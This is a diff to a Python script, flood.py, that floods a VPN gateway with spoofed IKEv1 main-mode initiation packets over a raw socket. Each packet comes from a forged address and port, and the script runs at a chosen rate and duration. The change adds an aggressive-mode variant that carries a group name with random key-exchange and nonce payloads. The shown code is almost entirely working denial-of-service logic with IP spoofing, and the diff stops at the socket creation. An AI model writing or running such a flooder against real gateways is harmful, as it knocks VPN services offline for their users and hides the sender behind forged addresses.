@@ -1,6 +1,7 @@
-"""flood.py GATEWAY NETWORK SECONDS RATE: first messages of IKEv1 main mode, so many a second, each from another forged address
-of the network (first two octets, as 10.64) and port, each with a cookie of its own and an offer that the gateway takes. Prints
-how many were sent, and their octets of IP."""
+"""flood.py GATEWAY NETWORK SECONDS RATE [GROUP]: first messages of IKEv1 main mode, so many a second, each from another forged
+address of the network (first two octets, as 10.64) and port, each with a cookie of its own and an offer that the gateway takes.
+GROUP: of aggressive mode, for the connection of that name, with a public value. Prints how many were sent, and their octets of
+IP."""
 import os
 import socket
 import struct
@@ -8,6 +9,7 @@ import sys
 import time
 
 gateway, network, seconds, rate = sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4])
+group = sys.argv[5].encode() if len(sys.argv) > 5 else None
 
 
 def attribute(kind, value):
@@ -20,8 +22,17 @@ transform = struct.pack("!BBHBBH", 0, 0, 8 + len(transform), 1, 1, 0) + transfor
 proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
 sa = struct.pack("!II", 1, 1) + proposal
 nat_t = bytes.fromhex("4a131c81070358455c5728f20e95452f")
-payloads = struct.pack("!BBH", 13, 0, 4 + len(sa)) + sa + struct.pack("!BBH", 0, 0, 4 + len(nat_t)) + nat_t
-rest = bytes(8) + struct.pack("!BBBBII", 1, 0x10, 2, 0, 0, 28 + len(payloads)) + payloads
+
+
+def chain(*parts):  # (type, body) each
+    kinds = [kind for kind, _ in parts[1:]] + [0]
+    return b"".join(struct.pack("!BBH", n, 0, 4 + len(body)) + body for n, (_, body) in zip(kinds, parts))
+
+
+payloads = chain((1, sa), (13, nat_t))
+if group is not None:
+    payloads = chain((1, sa), (4, os.urandom(256)), (10, os.urandom(32)), (5, struct.pack("!BBH", 11, 0, 0) + group), (13, nat_t))
+rest = bytes(8) + struct.pack("!BBBBII", 1, 0x10, 2 if group is None else 4, 0, 0, 28 + len(payloads)) + payloads
 udp_len = 8 + 8 + len(rest)
 prefix, dst = bytes(int(x) for x in network.split(".")), socket.inet_aton(gateway)
 s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
